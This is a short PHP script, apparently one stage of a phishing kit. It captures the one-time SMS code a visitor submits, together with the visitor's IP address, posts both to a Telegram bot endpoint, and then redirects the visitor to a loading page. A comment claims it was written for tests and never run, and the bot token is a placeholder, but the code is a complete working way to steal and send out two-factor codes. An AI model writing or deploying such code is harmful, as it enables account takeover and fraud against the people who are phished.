<?php
// one step of a kit: the SMS code the visitor typed, posted to a chat bot (written for the tests, never run)
$code = htmlspecialchars($_POST['otp']);
$text = "SMS code: " . $code . "\nIP: " . $_SERVER['REMOTE_ADDR'];
$api = "https://api.telegram.org/bot000000:TESTTOKEN/sendMessage";
$fields = ['chat_id' => '1', 'text' => $text];
$ch = curl_init();
curl_setopt($ch, CURLOPT_URL, $api);
curl_setopt($ch, CURLOPT_POST, true);
curl_setopt($ch, CURLOPT_POSTFIELDS, $fields);
curl_exec($ch);
header("Location: ../loading.php");
